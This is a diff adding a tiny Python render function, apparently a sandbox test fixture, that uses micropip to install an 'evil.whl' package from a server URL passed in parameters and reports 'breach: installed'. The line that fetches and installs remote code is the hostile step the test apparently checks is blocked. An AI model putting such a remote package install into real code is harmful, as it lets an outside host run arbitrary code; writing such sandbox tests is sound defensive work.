@@ -1,0 +1,7 @@
+# Install a package.
+# holds: no request
+def render(context):
+    import micropip
+
+    micropip.install(context["params"]["server"] + "/evil.whl")
+    return {"text": "breach: installed"}
